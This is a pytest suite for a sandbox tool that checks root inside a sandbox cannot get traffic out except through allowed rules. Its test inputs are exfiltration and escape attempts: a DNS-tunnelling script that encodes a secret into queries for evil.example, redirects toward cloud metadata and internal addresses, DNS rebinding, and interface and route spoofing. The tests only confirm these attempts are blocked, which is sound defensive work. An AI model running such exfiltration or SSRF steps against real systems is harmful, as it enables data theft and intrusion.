# SPDX-License-Identifier: Apache-2.0
"""Attacks out of a sandbox, as root inside, in the test internet: only what a rule allows leaves.

docs/security.md lists which attack is shown by which test. All of `**.test` is allowed here, so
what stays closed is closed for another reason than that nobody opened it.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.internet.client import Internet
from tests.internet.facts import (
    METADATA,
    OTHER_WEB,
    PRIVATE,
    PUBLIC_RESOLVER,
    RESOLVER,
    SHARED,
    WEB,
    Kind,
)
from tests.kit.installation import Ended, Installation

BOX = "attack"
PROBE = Path(__file__).parents[1] / "kit" / "probe.py"
DIRECT = ("env", "-u", "http_proxy", "-u", "https_proxy", "-u", "HTTP_PROXY", "-u", "HTTPS_PROXY")
WAYS = pytest.mark.parametrize("way", [(), DIRECT], ids=["explicit", "transparent"])
SPECIAL = {"private": PRIVATE, "shared": SHARED, "metadata": METADATA, "loopback": "127.0.0.1",
           "loopback6": "[::1]", "mapped": "127.0.0.1"}  # fmt: skip
END = "--end--"  # of the answer to one of several URLs
DNS = """
import socket, struct, sys
def ask(name, kind):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    data = b"\\x12\\x34\\x01\\0\\0\\x01" + bytes(6) + labels + b"\\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(20)
        sock.sendto(data, ("192.168.127.1", 53))
        answer = sock.recv(512)
    return answer[3] & 15
data = "c2VjcmV0LWtleQ" * 4
kinds = 1, 16, 10, 28, 15, 12, 65
print(*[ask(f"{data}.{number}.evil.example", kind) for number, kind in enumerate(kinds)])
"""


@pytest.fixture(scope="module", name="box")
def _box(online: Installation) -> Installation:
    online.ok("policy", "init", "balanced", "--no-mirrors")
    online.ok("policy", "allow", "network", "**.test")
    online.ok("create", "--name", BOX, "-q", "--memory", "1g", "shell")
    assert as_root(online, "curl", "-sS", "http://site.test/say?body=open").ok().text == "open"
    return online


def as_root(box: Installation, *command: str, stdin: bytes = b"") -> Ended:
    return box.inside(BOX, *command, user="root", stdin=stdin)


def curls(
    box: Installation,
    way: tuple[str, ...],
    urls: list[str],
    options: str = "-s",
    *,
    together: bool = False,
) -> list[str]:
    """What curl says to each URL, its errors too; in one session, and if `together` in one curl."""
    once = f"curl -sS -m 20 {options}"
    each = f'for url; do {once} -w "{END}" "$url" 2>&1; done'
    script = f'{once} -w "{END}" "$@" 2>&1' if together else each
    done = as_root(box, *way, "sh", "-c", script, "sh", *urls)
    return done.text.split(END)[:-1]


def blocked(done: Ended, where: str) -> bool:
    return f"Blocked by network policy: {where}" in done.text


def arrived(internet: Internet, *at: str) -> list[str]:
    """What servers at these addresses have seen."""
    return [e.what for e in internet.seen() if e.at.rpartition(":")[0].strip("[]") in at]


def test_no_packet_leaves_but_by_dns_and_proxy(box: Installation, internet: Internet) -> None:
    """TCP, UDP (53, 443, mDNS), ICMP, IPv6, raw and spoofed frames, VLAN, ARP: by address."""
    internet.forget()
    hosts = [WEB, METADATA, PRIVATE, SHARED, "192.168.126.1", "192.168.126.2"]
    given = json.dumps({"hosts": hosts, "resolvers": [PUBLIC_RESOLVER, RESOLVER]})
    done = as_root(box, "python3", "-", given, stdin=PROBE.read_bytes()).ok()
    found = json.loads(done.out)
    assert found["answers"] == []
    assert found["attempts"] > 100
    assert found["sent"] > 400
    assert internet.packets() == set()
    # The gateway's neighbour entries and our own way were not moved by the forged ARP.
    done = as_root(box, *DIRECT, "curl", "-sS", "http://site.test/say?body=still")
    assert done.ok().text == "still"
    assert internet.packets() == {f"udp {RESOLVER}:53", f"tcp {WEB}:80"}


def test_no_question_about_a_name_that_is_not_allowed_leaves(
    box: Installation, internet: Internet
) -> None:
    internet.forget()
    assert as_root(box, "python3", "-c", DNS).ok().text.split() == ["3"] * 7
    assert as_root(box, "getent", "hosts", "secret.evil.example").returncode == 2
    assert internet.packets() == set()


def test_no_search_domain_is_tried(box: Installation, internet: Internet) -> None:
    internet.forget()
    for way in ((), DIRECT):
        done = as_root(box, *way, "curl", "-sS", "http://void.test/echo")
        assert "cannot be resolved" in done.text
    assert {e.what.split()[1] for e in internet.wait(Kind.DNS)} == {"void.test"}


@WAYS
def test_a_name_at_a_special_address_is_refused(
    box: Installation, internet: Internet, way: tuple[str, ...]
) -> None:
    """Although a wildcard allows all of these names: loopback, private, shared, metadata."""
    internet.forget()
    names = [f"{name}.test" for name in SPECIAL]
    for name, text in zip(names, curls(box, way, [f"http://{n}/echo" for n in names]), strict=True):
        assert f"Blocked by network policy: {name}:80" in text
    for text in curls(box, way, [f"https://{name}/echo" for name in names], "-k"):
        assert "curl: " in text
    assert internet.seen(Kind.HTTP) == []
    assert arrived(internet, *SPECIAL.values()) == []


@WAYS
def test_a_redirect_leads_nowhere_either(
    box: Installation, internet: Internet, way: tuple[str, ...]
) -> None:
    internet.forget()
    targets = [
        f"http://{METADATA}/latest/meta-data", "http://metadata.test/", f"http://{PRIVATE}/",
        "http://host.docker.internal:3000/", "http://gateway.docker.internal:3000/",
        "http://[::ffff:169.254.169.254]/", f"https://{METADATA}/", "http://evil.example/",
    ]  # fmt: skip
    urls = [f"http://site.test/redirect?to={target}" for target in targets]
    for text in curls(box, way, urls, "-gL"):
        assert "Blocked by" in text or "curl: " in text or "Host field names no host" in text
    assert [e.what for e in internet.seen(Kind.HTTP)] == [f"GET {url}" for url in urls]


@WAYS
@pytest.mark.parametrize("then", [METADATA, "127.0.0.1", PRIVATE])
def test_a_name_that_is_rebound_is_refused(
    box: Installation, internet: Internet, then: str, way: tuple[str, ...]
) -> None:
    internet.forget()
    internet.name("moves.test", [WEB], [then], [OTHER_WEB])
    url = "http://moves.test/say?body=yes"
    # One curl, which keeps its connection; the stand-in address stays the same as well.
    first, second, third = curls(box, way, [url, url, url], together=True)
    assert first == "yes"
    assert "Blocked by network policy: moves.test:80" in second
    assert third == "yes", "the good address is not held back"
    assert arrived(internet, then) == []


def test_the_hosts_services_take_a_rule_that_names_them(
    box: Installation, internet: Internet
) -> None:
    internet.forget()
    ports = (7, 80, 443, 3000, 8080)
    urls = [f"http://host.docker.internal:{port}/echo" for port in ports]
    for way in ((), DIRECT):
        for port, text in zip(ports, curls(box, way, urls), strict=True):
            assert f"Blocked by network policy: localhost:{port}" in text
    assert internet.seen() == []
    box.ok("policy", "allow", "network", "localhost:8080")
    urls = ["http://host.docker.internal:8080/say?body=ours", "http://host.docker.internal:3000/"]
    for way in ((), DIRECT):
        opened, shut = curls(box, way, urls)
        assert opened == "ours"
        assert "Blocked by network policy: localhost:3000" in shut
    assert {e.at for e in internet.seen()} == {"127.0.0.1:8080"}


def test_root_inside_cannot_change_where_it_is(box: Installation, internet: Internet) -> None:
    """Other addresses, routes, MAC and firewall of its own: none of them is ours."""
    internet.forget()
    script = f"""
ip link set eth0 down; ip link set eth0 address 52:54:00:73:62:f2; ip link set eth0 up
ip addr add {METADATA}/32 dev eth0; ip addr add 192.168.127.99/24 dev eth0
ip route replace default via 192.168.127.1 src 192.168.127.99
timeout 3 curl -sS -m 2 --noproxy '*' http://{WEB}/echo
ip addr flush dev eth0; ip link set eth0 down; ip link set eth0 address 52:54:00:73:62:02
ip link set eth0 up; ip addr add 192.168.127.2/24 dev eth0
ip route replace default via 192.168.127.1
curl -sS http://site.test/say?body=back
"""
    done = as_root(box, "sh", "-c", script)
    assert done.text == "back"
    assert [e.what for e in internet.seen(Kind.HTTP)] == ["GET http://site.test/say?body=back"]


def test_another_sandbox_is_out_of_reach(box: Installation, internet: Internet) -> None:
    box.ok("create", "--name", "other", "-q", "--memory", "512m", "shell")
    serve = "import http.server as h; h.test(h.SimpleHTTPRequestHandler, port=9999, bind='0.0.0.0')"
    with box.popen("exec", "other", "python3", "-u", "-c", serve) as child:
        try:
            assert child.stdout is not None
            assert b"Serving HTTP" in child.stdout.readline()
            done = box.inside("other", *DIRECT, "curl", "-sS", "http://192.168.127.2:9999/")
            assert "Directory listing" in done.ok().text, "the service is there"
            internet.forget()
            hosts = ("192.168.127.2", "192.168.126.2", "192.168.127.1", "192.168.126.1")
            for text in curls(box, DIRECT, [f"http://{host}:9999/" for host in hosts]):
                assert "Directory listing" not in text
            assert internet.packets() == set()
        finally:
            child.kill()
            child.communicate(timeout=60)
    box.ok("rm", "-f", "other")


def test_a_tightened_policy_cuts_a_download_at_once(box: Installation) -> None:
    url = "http://down.test/endless"
    with box.popen("exec", BOX, "curl", "-sS", url) as child:
        assert child.stdout is not None
        assert child.stdout.read(100_000)
        box.ok("policy", "deny", "network", "down.test")
        child.communicate(timeout=60)
    assert child.returncode in (18, 56), "a partial file, or a reset"
    assert blocked(as_root(box, "curl", "-sS", url), "down.test:80")


def test_a_policy_that_cannot_be_read_opens_nothing(box: Installation, internet: Internet) -> None:
    path = box.home / "config" / "opensbx" / "policy.json"
    kept = path.read_bytes()
    internet.forget()
    try:
        path.write_text("{ this is no policy")
        for host in ("evil.example", "metadata.test"):
            done = as_root(box, "curl", "-sS", f"http://{host}/")
            assert "Blocked by network policy" in done.text
        assert internet.seen(Kind.HTTP) == []
        assert box.call("policy", "ls").returncode != 0
    finally:
        path.write_bytes(kept)
    assert as_root(box, "curl", "-sS", "http://site.test/say?body=again").text == "again"
